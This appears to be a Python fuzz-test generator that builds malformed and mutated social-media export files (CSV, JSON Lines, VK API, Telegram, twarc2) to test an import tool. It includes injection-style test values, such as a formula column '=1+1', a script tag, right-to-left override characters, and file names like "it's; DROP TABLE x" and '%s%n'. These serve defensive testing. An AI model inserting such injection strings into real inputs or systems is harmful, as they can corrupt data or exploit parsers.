    return {"id": gid, "name": "Новости", "screen_name": "news", "description": "d", "members_count": 1000,
            "photo_200": "https://vk.example/g.jpg", "verified": 1}  # fmt: skip


def vk_response(rng, hostile: Hostile, n: int, base: int) -> dict:
    roll = rng.random()
    if roll < 0.1:
        users = [_vk_profile(rng, base + k) for k in range(n)]
        for u in users:
            mutate_tree(u, hostile, _n_mutations(rng), None)
        return {"response": users}
    if roll < 0.13:
        return {"error": {"error_code": 15, "error_msg": hostile.string()[:300]}}
    owner = -rng.randint(1, 5)
    if roll < 0.5:
        items = [_vk_post(rng, base + k, owner) for k in range(n)]
    else:
        post = base
        items = [_vk_comment(rng, base + k, owner, post, rng.random() < 0.2) for k in range(n)]
    ids: list = []
    for it in items:
        mutate_tree(it, hostile, _n_mutations(rng), ids)
        ids.append(it.get("id") if isinstance(it, dict) else None)
    payload = {
        "count": n,
        "items": items,
        "profiles": [_vk_profile(rng, u) for u in range(1, rng.randint(1, 6))],
        "groups": [_vk_group(rng, -owner)],
    }
    for p in payload["profiles"] + payload["groups"]:
        mutate_tree(p, hostile, _n_mutations(rng) // 2, None)
    response = {"response": payload} if rng.random() < 0.8 else payload
    if rng.random() < 0.05 and not _calm(rng):
        mutate_tree(response, hostile, 1, None, max_depth=3)  # hostile envelope (items, thread, profiles)
    return response


def vk_count(response: Any) -> int:
    """Records one response holds, by the documented layout (vk.py's module docstring)."""
    payload = response.get("response") if isinstance(response, dict) and "response" in response else response
    if isinstance(response, dict) and "error" in response and "response" not in response:
        return 1
    if isinstance(payload, list):
        return len(payload)
    if isinstance(payload, dict) and isinstance(payload.get("items"), list):
        n = 0
        for item in payload["items"]:
            n += 1
            thread = item.get("thread") if isinstance(item, dict) else None
            replies = thread.get("items") if isinstance(thread, dict) else None
            n += len(replies) if isinstance(replies, list) else 0
        for key in ("profiles", "groups"):
            block = payload.get(key)
            n += len(block) if isinstance(block, list) else 0
        return n
    return 1


# CSV
CSV_LAYOUTS: dict[str, list[str]] = {
    "canonical": ["item_id", "account_id", "created_at", "text", "kind", "parent_id", "channel", "lang", "links",
                  "hashtags", "mentions", "handle", "display_name", "bio", "followers", "verified", "reactions",
                  "account_created_at"],
    "cnt": ["message_id", "user_id", "username", "repost_id", "reply_id", "message", "timestamp", "urls"],
    "coortweet": ["object_id", "account_id", "content_id", "timestamp_share"],
    "twitter-io": ["tweetid", "userid", "user_screen_name", "user_display_name", "tweet_text", "tweet_time",
                   "in_reply_to_tweetid", "tweet_language", "hashtags", "urls", "user_mentions", "like_count",
                   "retweet_count", "reply_count", "follower_count", "following_count", "account_creation_date",
                   "user_profile_description", "is_retweet", "retweet_tweetid"],
    "pushshift-reddit": ["author", "id", "created", "subreddit", "parent_id", "full_link", "title", "selftext",
                         "body", "url"],
    "4cat": ["id", "thread_id", "author", "author_username", "body", "timestamp", "unix_timestamp"],
    "crowdtangle": ["Facebook Id", "Post Created", "URL", "User Name", "Page Name", "Message", "Link",
                    "Total Interactions", "Comments", "Shares", "Followers at Posting"],
    "meta-content-library": ["id", "creation_time", "text", "post_owner.id", "post_owner.username",
                             "post_owner.name", "lang", "surface.name", "statistics.reaction_count",
                             "statistics.comment_count", "statistics.share_count", "statistics.views"],
}  # fmt: skip


HOSTILE_COLUMNS = ["it's", 'quo"te', "Имя столбца", "a.b.c", "=1+1", "<script>x</script>", " spaced ", "semi;colon",
                   "tab\tcol", "pipe|col", "\u202eevil", "select", "1", "ITEM_ID", "item_id ", "$.x", "@hash", "'q'",
                   "back\\slash", "🙂"]  # fmt: skip
ZONES = ["UTC", "Asia/Almaty", "Europe/Moscow", "America/New_York", "Pacific/Kiritimati", "Pacific/Pago_Pago"]


MAP_TARGETS = ["item_id", "account_id", "created_at", "text", "kind", "links", "followers", "verified", "platform",
               "preset", "no_such_field", ""]  # fmt: skip
MAP_VALUES = ["'", "''", "'it''s'", "'comment'", "'bogus kind'", "a..b", ".", "", "a.", ".a", "$.x", '"', "@hash",
              "@line", "@nope", "text", "post.body.text", "cnt", "1", "a.b.c.d.e.f.g.h", "'\u202e'"]  # fmt: skip


def hostile_mapping(rng) -> tuple[str, str]:
    """One ``--map FIELD=VALUE`` a user might type by mistake (or on purpose)."""
    return rng.choice(MAP_TARGETS), rng.choice(MAP_VALUES)


def zone(rng) -> str:
    return rng.choice(ZONES)


def _csv_value(col: str, rng, i: int) -> str:
    c = col.lower()
    if c in ("item_id", "message_id", "content_id", "tweetid", "id", "facebook id") or c.endswith(".id"):
        return str(i) if c != "facebook id" else str(rng.randint(1, 60))
    if c in ("account_id", "user_id", "userid", "author", "post_owner.id", "object_id"):
        return f"acct{rng.randint(1, 60)}" if c != "object_id" else str(rng.randint(1, 99))
    if c in ("url",):
        return (
            f"https://www.facebook.com/1/posts/{i}"
            if rng.random() < 0.5
            else f"https://www.reddit.com/r/x/comments/{i:x}/t/"
        )
    if c == "full_link":
        return f"https://www.reddit.com/r/x/comments/{i:x}/title/"
    if c in ("created_at", "timestamp_share", "tweet_time", "creation_time", "account_creation_date"):
        return rng.choice([_iso(T0 + i), "2024-03-01 10:00:00", "2024-03-01T10:00:00+05:00"])
    if c in ("timestamp", "created", "unix_timestamp"):
        return str(T0 + i)
    if c == "post created":
        return "2024-03-01 10:00:00 EST"
    if c in ("text", "message", "tweet_text", "body", "title", "selftext", "bio", "user_profile_description"):
        return _text(rng, i)
    if c in ("followers", "reactions", "like_count", "retweet_count", "reply_count", "follower_count",
             "following_count", "total interactions", "comments", "shares", "followers at posting") or c.startswith("statistics."):  # fmt: skip
        return rng.choice(["0", "12", "12.0", "1,234"])
    if c in ("links", "urls"):
        return rng.choice(["", "https://a.example/1", "['https://a.example/1', 'https://b.example/2']"])
    if c in ("hashtags", "user_mentions", "mentions"):
        return rng.choice(["", "['tag']", "tag1 tag2", "[]"])
    if c in ("parent_id", "reply_id", "repost_id", "in_reply_to_tweetid", "retweet_tweetid", "thread_id"):
        return str(i - 1) if rng.random() < 0.3 else ""
    if c == "kind":
        return rng.choice(["", "post", "comment", "reply"])
    if c == "is_retweet":
        return rng.choice(["true", "false"])
    if c == "verified":
        return rng.choice(["true", "false", "", "1"])
    return rng.choice(["ru", "kk", "en", "Page", "name", "x"])


def _write_csv(rows: list[list[str]], delim: str, rng) -> bytes:
    """CSV as RFC 4180 writers do: a field is quoted when it holds the delimiter, a quote, CR or LF (Python's
    writer leaves a bare CR unquoted when the line ends in LF), or always."""
    quote_all = rng.random() < 0.2
    eol = rng.choice(["\n", "\r\n"])

    def field(v: str) -> str:
        if quote_all or any(c in v for c in (delim, '"', "\r", "\n")):
            return '"' + v.replace('"', '""') + '"'
        return v

    text = "".join(delim.join(field(v) for v in row) + eol for row in rows)
    return text.encode("utf-8", errors="surrogatepass")


def csv_file(rng, hostile: Hostile, n: int, base: int) -> tuple[bytes, list[int], dict]:
    """A CSV/TSV with ``n`` data rows; returns (bytes, each row's first line, options)."""
    layout = rng.choice(list(CSV_LAYOUTS))
    header = list(CSV_LAYOUTS[layout])
    delim = rng.choice([",", ",", ",", "\t", ";", "|"])
    options: dict = {"timezone": zone(rng)} if rng.random() < 0.9 else {}
    mapping = []
    if layout == "canonical" and rng.random() < 0.2:
        mapping.append(("item_id", rng.choice(["@hash", "@line"])))
    if rng.random() < 0.1 and not _calm(rng):  # hostile column names, sometimes mapped
        extra = rng.sample(HOSTILE_COLUMNS, rng.randint(1, 3))
        header += [c for c in extra if c.strip() not in header]
        if rng.random() < 0.5:
            mapping.append((rng.choice(["text", "channel", "handle", "bio"]), header[-1].strip()))
    if rng.random() < 0.1 and not _calm(rng):
        mapping.append(hostile_mapping(rng))
    if mapping:
        options["mapping"] = tuple(mapping)
    rows = [header]
    ids: list[str] = []
    for k in range(n):
        row = [_csv_value(col, rng, base + k) for col in header]
        for _ in range(_n_mutations(rng)):
            j = rng.randrange(len(row))
            roll = rng.random()
            if roll < 0.1 and ids:
                row[j] = rng.choice(ids)
            elif roll < 0.3:
                t = hostile.timestamp()
                row[j] = t if isinstance(t, str) else str(t)
            else:
                row[j] = hostile.string()
        if rng.random() < 0.03 and not _calm(rng):  # wrong number of fields
            row = row + [hostile.string()] if rng.random() < 0.5 else row[:-1]
        ids.append(row[0])
        rows.append(row)
    data = _write_csv(rows, delim, rng)
    starts = _csv_row_starts(data, delim, len(rows))
    return data, starts[1:], options


def _csv_row_starts(data: bytes, delim: str, n_rows: int) -> list[int]:
    """First physical line of each record, read the way Python's csv module reads the file."""
    text = io.TextIOWrapper(io.BytesIO(data), encoding="utf-8", errors="surrogateescape", newline="")
    reader = csv.reader(text, delimiter=delim, strict=True)
    starts, prev = [], 0
    for _ in range(n_rows):
        try:
            next(reader)
        except (StopIteration, csv.Error):
            break
        starts.append(prev + 1)
        prev = reader.line_num
    return starts


# JSON Lines (generic)
def jsonl_lines(rng, hostile: Hostile, n: int, base: int, nested: bool) -> list[Any]:
    lines: list[Any] = []
    ids: list = []
    for k in range(n):
        i = base + k
        if nested:
            rec: Any = {"post": {"id": i, "body": {"text": _text(rng, i)}}, "author": {"id": rng.randint(1, 60),
                        "name": "A"}, "meta": {"ts": _iso(T0 + i)}}  # fmt: skip
        else:
            rec = {"item_id": str(i), "account_id": f"acct{rng.randint(1, 60)}", "created_at": _iso(T0 + i),
                   "text": _text(rng, i), "kind": rng.choice(["post", "comment"]), "parent_id": str(i - 1),
                   "handle": "h", "links": ["https://a.example/"], "reactions": 3, "bio": "b"}  # fmt: skip
        if rng.random() < 0.02 and not _calm(rng):
            rec = rng.choice([[1, 2], "str", 5, None, True, [], {}])
        else:
            mutate_tree(rec, hostile, _n_mutations(rng), ids)
        ids.append(i)
        lines.append(rec)
    return lines


JSONL_NESTED_MAP = (
    ("item_id", "post.id"),
    ("account_id", "author.id"),
    ("created_at", "meta.ts"),
    ("text", "post.body.text"),
    ("display_name", "author.name"),
)


# -- files ---------------------------------------------------------------------------------------------------------
def _join_lines(objs: list[Any], rng) -> tuple[bytes, list[int]]:
    """JSON Lines bytes and the line number of each object."""
    out = []
    positions = []
    line = 1
    for obj in objs:
        while rng.random() < 0.01:  # blank lines between records
            out.append(rng.choice([b"", b"  ", b"\r"]))
            line += 1
        out.append(json_bytes(obj, rng))
        positions.append(line)
        line += 1
    eol = rng.choice([b"\n", b"\n", b"\r\n"])
    data = eol.join(out) + (eol if rng.random() < 0.8 else b"")
    if rng.random() < 0.05:
        data = b"\xef\xbb\xbf" + data
    return data, positions


def _lines_at(data: bytes, positions: list[int]) -> list[bytes]:
    lines = data.removeprefix(b"\xef\xbb\xbf").split(b"\n")
    return [lines[p - 1] for p in positions]


def _mutate_lines(data: bytes, rng, rate: float) -> tuple[bytes, int]:
    """Byte-level mutation of single lines of a line-based file (each mutated line is one more fuzz case)."""
    lines = data.split(b"\n")
    n = 0
    for i in range(len(lines)):
        if lines[i].strip() and rng.random() < rate:
            lines[i], _ = mutate_bytes(lines[i], rng, 1)
            n += 1
    return b"\n".join(lines), n


def nonblank_lines(data: bytes) -> list[int]:
    """1-based numbers of the lines (split at LF) that hold more than whitespace, a leading BOM ignored."""
    data = data.removeprefix(b"\xef\xbb\xbf")
    return [i for i, line in enumerate(data.split(b"\n"), 1) if line.strip()]


EXT = {
    "csv": ".csv",
    "jsonl": ".jsonl",
    "twarc2": ".jsonl",
    "zeeschuimer": ".ndjson",
    "telegram-desktop": ".json",
    "vk-api": ".json",
}


def make_file(adapter: str, seed: int, index: int, batch: int = 500, bytes_share: float = 0.1) -> FuzzFile:
    """The ``index``-th fuzz file for ``adapter`` under ``seed``: about ``batch`` hostile records, or (a
    ``bytes_share`` of the files) one byte-mutated small sample."""
    rng = random.Random(f"{adapter}:{seed}:{index}")
    hostile = Hostile(rng)
    base = 1_000 + index * 100_000
    if rng.random() < bytes_share:
        return _bytes_file(adapter, seed, index, rng, hostile)
    ff = _records_file(adapter, seed, index, rng, hostile, batch, base)
    if rng.random() < 0.1 and adapter != "csv":  # line-level byte mutations inside a structured file
        if adapter in ("jsonl", "twarc2", "zeeschuimer") or (adapter == "vk-api" and b"\n{" in ff.data):
            ff.data, n = _mutate_lines(ff.data, rng, 0.05)
            ff.cases += n
            ff.note += f"; {n} lines byte-mutated"
            ff.positions = nonblank_lines(ff.data) if adapter in ("jsonl", "twarc2", "zeeschuimer") else None
            ff.exact_records = None
            ff.min_records = 0
    if rng.random() < 0.08:
        ff.data = gzip.compress(ff.data, mtime=0)
        ff.name += ".gz"
    if rng.random() < 0.1:  # a hostile file name
        stem = rng.choice(["it's; DROP TABLE x", "пример файла", "a\u202eb", "%s%n", "x" * 150, "tab\there"])
        ff.name = stem + ff.name
    roll = rng.random()
    if roll < 0.2:  # detection instead of --format
        ff.options.pop("format", None)
    elif roll < 0.25:  # the wrong --format
        ff.options["format"] = rng.choice([a for a in ADAPTERS if a != adapter])
        ff.note += f"; read as {ff.options['format']}"
    if adapter in ("csv", "jsonl") and rng.random() < 0.1:
        ff.options["platform"] = rng.choice(["vk", "x" * 300, "плат'форма", " ", "a\u202eb", "<b>"])
    return ff


def _records_file(adapter, seed, index, rng, hostile, batch, base) -> FuzzFile:
    n = rng.randint(batch // 2, batch * 3 // 2)
    opts: dict = {"format": adapter, "timezone": zone(rng)}
    if adapter == "csv":
        data, starts, extra = csv_file(rng, hostile, n, base)
        opts.update(extra)
        if "timezone" not in extra:
            opts.pop("timezone")
        return FuzzFile(adapter, seed, index, "records", f"f{index}.csv", data, n, opts, starts, n, n, "csv")
    if adapter == "jsonl":
        nested = rng.random() < 0.3
        objs = jsonl_lines(rng, hostile, n, base, nested)
        if nested:
            opts["mapping"] = JSONL_NESTED_MAP
        elif rng.random() < 0.1:  # a hostile dotted path or key mapped
            opts["mapping"] = (
                (rng.choice(["text", "channel", "lang"]), rng.choice(HOSTILE_COLUMNS).strip()),
            )
        if rng.random() < 0.1:
            opts["mapping"] = tuple(opts.get("mapping", ())) + (hostile_mapping(rng),)
        data, positions = _join_lines(objs, rng)
        return FuzzFile(adapter, seed, index, "records", f"f{index}.jsonl", data, n, opts, positions, n, n)
    if adapter == "twarc2":
        objs, records = twarc_lines(rng, hostile, n, base)
        objs = [tame(o) if rng.random() < 0.7 else o for o in objs]
        data, positions = _join_lines(objs, rng)
        parsed = [parses(line) for line in _lines_at(data, positions)]
        # an empty page (no data, no includes, no errors) is not a record; every other line is
        keep = [p for p, o in zip(positions, parsed) if o is _BAD or not _empty_page(o)]
        least = sum(twarc_min_records(o) for o in parsed)
        name = f"f{index}.jsonl"
        return FuzzFile(adapter, seed, index, "records", name, data, records, opts, keep, None, least)
    if adapter == "zeeschuimer":
        objs = zeeschuimer_lines(rng, hostile, n, base)
        data, positions = _join_lines(objs, rng)
        name = f"f{index}.ndjson"
        return FuzzFile(adapter, seed, index, "records", name, data, n, opts, positions, None, n)
    if adapter == "telegram-desktop":
        doc, k = telegram_doc(rng, hostile, n)
        if rng.random() < 0.25:
            mutate_tree(doc, hostile, 1, None, max_depth=rng.choice([2, 3, 4]))  # hostile envelope
        if rng.random() < 0.85:
            doc = tame(doc)
        data = json_bytes(doc, rng, indent=rng.choice([None, 1]))
        parsed = parses(data)  # counted as written: a deep-nesting marker is a string until then
        count = telegram_count(parsed) if parsed is not _BAD else None
        return FuzzFile(adapter, seed, index, "records", f"result{index}.json", data, k, opts, None, count, 0)
    if adapter == "vk-api":
        if rng.random() < 0.5:  # one response, pretty or not
            resp = vk_response(rng, hostile, n, base)
            if rng.random() < 0.2:
                mutate_tree(resp, hostile, 1, None, max_depth=rng.choice([1, 2, 3]))
            if rng.random() < 0.85:
                resp = tame(resp)
            data = json_bytes(resp, rng, indent=rng.choice([None, 2]))
            parsed = parses(data)
            count = vk_count(parsed) if parsed is not _BAD else None
            name = f"wall{index}.json"
            return FuzzFile(adapter, seed, index, "records", name, data, n, opts, None, count, 0)
        responses = []
        k = 0
        while k < n:
            m = rng.randint(1, 60)
            responses.append(vk_response(rng, hostile, m, base + k * 1000))
            k += m
        responses = [tame(r) if rng.random() < 0.7 else r for r in responses]
        data, positions = _join_lines(responses, rng)
        total = sum(1 if o is _BAD else vk_count(o) for o in (parses(x) for x in _lines_at(data, positions)))
        return FuzzFile(adapter, seed, index, "records", f"wall{index}.jsonl", data, k, opts, None, total, 0)
    raise ValueError(adapter)


def twarc_min_records(obj: Any) -> int:
    """Records a twarc2 line holds at least (flattened lines may add the referenced tweets they expand)."""
    if obj is _BAD or not isinstance(obj, dict) or "id" in obj:
        return 1
    page_keys = ("includes", "meta", "errors")
    if not (isinstance(obj.get("data"), list | dict) or any(k in obj for k in page_keys)):
        return 1
    data = obj.get("data")
    n = len(data) if isinstance(data, list) else 1 if isinstance(data, dict) else 0
    includes = obj.get("includes") if isinstance(obj.get("includes"), dict) else {}
    for key in ("tweets", "users"):
        n += len(includes[key]) if isinstance(includes.get(key), list) else 0
    return n or (1 if obj.get("errors") else 0)


def _empty_page(obj: Any) -> bool:
    if not isinstance(obj, dict) or "id" in obj:
        return False
    if not (
        isinstance(obj.get("data"), list | dict) or any(k in obj for k in ("includes", "meta", "errors"))
    ):
        return False
    data = obj.get("data")
    includes = obj.get("includes") if isinstance(obj.get("includes"), dict) else {}
    return (
        data in (None, [])
        and not includes.get("tweets")
        and not includes.get("users")
        and not obj.get("errors")
    )


def small_sample(adapter: str, rng, hostile: Hostile) -> bytes:
    """A small valid file of the format (a few records, no hostile fields) for byte-level mutation."""
    calm = _CalmHostile(random.Random(0))
    calm_rng = _Calm(rng.random())
    n = rng.randint(1, 12)
    if adapter == "csv":
        data, _, _ = csv_file(calm_rng, calm, n, 1000)
        return data
    if adapter == "jsonl":
        return _join_lines(jsonl_lines(calm_rng, calm, n, 1000, False), calm_rng)[0]
    if adapter == "twarc2":
        return _join_lines(twarc_lines(calm_rng, calm, n, 1000)[0], calm_rng)[0]
    if adapter == "zeeschuimer":
        return _join_lines(zeeschuimer_lines(calm_rng, calm, n, 1000), calm_rng)[0]
    if adapter == "telegram-desktop":
        return json.dumps(telegram_doc(calm_rng, calm, n)[0], ensure_ascii=False, indent=1).encode()
    if adapter == "vk-api":
        if rng.random() < 0.5:
            return json.dumps(vk_response(calm_rng, calm, n, 1000), ensure_ascii=False).encode()
        return _join_lines([vk_response(calm_rng, calm, n, 1000 + 100 * j) for j in range(3)], calm_rng)[0]
    raise ValueError(adapter)


class _Calm(random.Random):
    """A random source for templates that never asks for a mutation (``_n_mutations`` draws 0)."""

    calm = True

    def choices(self, population, weights=None, *, cum_weights=None, k=1):
        if list(population) == [0, 1, 2, 3, 4]:
            return [0] * k
        return super().choices(population, weights, cum_weights=cum_weights, k=k)


class _CalmHostile(Hostile):
    def string(self) -> str:
        return "calm"


def _bytes_file(adapter, seed, index, rng, hostile) -> FuzzFile:
    sample = small_sample(adapter, rng, hostile)
    opts: dict = {"format": adapter, "timezone": zone(rng)}
    if rng.random() < 0.25:
        data, note = mutate_gzip(sample, rng)
        name = f"m{index}{EXT[adapter]}.gz"
    else:
        data, done = mutate_bytes(sample, rng)
        note = ", ".join(done)
        name = f"m{index}{EXT[adapter]}"
        if rng.random() < 0.1:
            data = gzip.compress(data, mtime=0)
            name += ".gz"
    if rng.random() < 0.4:
        opts.pop("format")
    return FuzzFile(adapter, seed, index, "bytes", name, data, 1, opts, None, None, 0, note)
